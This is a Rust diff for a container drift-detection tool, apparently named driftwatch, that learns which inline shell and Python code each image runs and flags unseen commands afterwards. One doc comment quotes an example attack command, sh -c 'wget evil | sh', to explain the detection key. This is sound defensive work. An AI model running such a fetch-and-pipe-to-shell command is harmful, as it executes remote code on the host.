@@ -17,6 +17,10 @@
 //! new container) until an operator approves it (`driftwatch baseline approve`), unless
 //! `network.learn_alerted` restores the old behaviour. Every entry can be revoked
 //! (`driftwatch baseline revoke`).
+//!
+//! The same window learns which inline code each image runs (`inline_code`: `sh -c` of an
+//! entrypoint or a health check, `python3 -c` one-liners), keyed by [`InlineKey`]; after the
+//! window, inline code of a key never seen is `drift.inline_learned = false`.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::io::Write;
@@ -34,6 +38,41 @@ pub const DEFAULT_LEARNING_WINDOW: Duration = Duration::from_secs(300);
 /// fan-out during learning must not grow the file without bound. Beyond it, new ones are
 /// drift even while the image learns.
 pub const MAX_LEARNED_PER_IMAGE: usize = 4096;
+/// At most this many inline-code keys are learned per image (each is up to a few hundred
+/// bytes): an image that generates new commands during learning stops learning them here.
+pub const MAX_INLINE_PER_IMAGE: usize = 1024;
+
+/// Which inline code counts as "the same" for learning: the interpreter family, the option
+/// that carried the code (`stdin` for code read from a pipe or a socket), the parent
+/// process's name, and the code's head (its first command word for a shell, its first
+/// statement otherwise).
+///
+/// The parent tells an attacker's shell from the workload's: a web server that never ran
+/// `sh -c` during learning does so after a command injection, whatever the command. The head
+/// tells commands apart where the parent is the same for all of them: health checks, entry
+/// points and `docker exec`/`kubectl exec` all have the runtime's shim as parent, so a health
+/// check's `sh -c 'curl -f localhost'` does not hide an `sh -c 'wget evil | sh'` arriving
+/// by `exec`. Only the head, not the whole code: workloads that pass changing arguments (file
+/// names, ids) to the same command are learned once.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct InlineKey {
+    pub family: driftwatch_model::InterpreterFamily,
+    pub flag: String,
+    pub parent: String,
+    #[serde(default)]
+    pub head: String,
+}
+
+impl std::fmt::Display for InlineKey {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{} {} {:?} (parent {:?})",
+            self.family, self.flag, self.head, self.parent
+        )
+    }
+}
 
 /// The whole baseline file.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
@@ -76,6 +115,9 @@ pub struct ImageBaseline {
     /// again, until approved (`PORT/PROTO`).
     #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
     pub pending_listeners: BTreeSet<String>,
+    /// Inline code the image ran while it learned.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub inline_code: BTreeSet<InlineKey>,
 }
 
 /// Which list of an image's baseline an entry is in, by its syntax.
@@ -365,6 +407,7 @@ impl BaselineFile {
                     mine.listeners.extend(img.listeners);
                     mine.destinations.extend(img.destinations);
                     mine.pending_listeners.extend(img.pending_listeners);
+                    mine.inline_code.extend(img.inline_code);
                     let learned = &mine.listeners;
                     mine.pending_listeners.retain(|l| !learned.contains(l));
                     mine.learn_until = mine.learn_until.min(now);
@@ -594,6 +637,27 @@ impl BaselineStore {
         }
         if img.learning(now) && img.destinations.len() < MAX_LEARNED_PER_IMAGE {
             img.destinations.insert(item.to_string());
+            self.dirty = true;
+            return Decision::Learned;
+        }
+        Decision::Drift { learned: false }
+    }
+
+    /// Inline code of `item`'s key: learned during the window, drift afterwards when the
+    /// image never ran it.
+    pub fn observe_inline(
+        &mut self,
+        key: &str,
+        name: &str,
+        item: &InlineKey,
+        now: u64,
+    ) -> Decision {
+        let img = self.image(key, name, now);
+        if img.inline_code.contains(item) {
+            return Decision::Known;
+        }
+        if img.learning(now) && img.inline_code.len() < MAX_INLINE_PER_IMAGE {
+            img.inline_code.insert(item.clone());
             self.dirty = true;
             return Decision::Learned;
         }
